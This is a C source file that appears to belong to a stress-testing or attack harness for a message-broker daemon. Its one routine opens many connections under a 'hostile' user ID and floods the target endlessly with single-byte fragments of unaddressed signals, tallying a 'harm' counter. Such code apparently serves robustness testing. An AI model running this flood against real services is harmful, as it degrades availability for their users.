/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdlib.h>

/* --count connections take turns to write signals without a recipient, a byte at a time. */
void single_bytes(void *argument)
{
    int n = attack_options.count;
    struct connection *all = calloc((size_t)n, sizeof(*all));
    struct buffer out = {0};
    (void)argument;
    if (!all)
        die("out of memory");
    hostile_set_uid();
    for (int i = 0; i < n; i++)
        attack_join(&all[i]);
    put_signal(&out, NULL, 16);
    process_ready();
    for (size_t at = 0;; at = (at + 1) % out.size) {
        struct buffer one = {out.data + at, 1, 1};
        for (int i = 0; i < n; i++)
            attack_pour(&all[i], &one);
        atomic_fetch_add(&shared->harm, (uint64_t)n);
    }
}
